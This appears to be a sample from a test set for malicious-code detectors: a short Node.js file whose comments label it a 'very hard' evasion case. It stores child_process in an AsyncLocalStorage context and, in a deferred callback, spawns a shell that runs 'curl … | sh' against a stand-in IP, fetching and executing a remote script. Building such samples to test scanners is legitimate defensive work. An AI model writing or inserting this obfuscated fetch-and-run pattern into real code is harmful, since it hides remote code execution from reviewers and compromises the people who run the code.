// evasion: child_process is the store of an AsyncLocalStorage; a callback run later takes spawn out of getStore()
// grade: very hard; does: shell
'use strict';
const { AsyncLocalStorage } = require('async_hooks');

const context = new AsyncLocalStorage();

function later() {
  const { spawn } = context.getStore();
  spawn('/bin/sh', ['-c', 'curl -fsS https://203.0.113.9/s | sh'], { stdio: 'inherit' });
}

context.run(require('child_process'), () => {
  setImmediate(later);
});
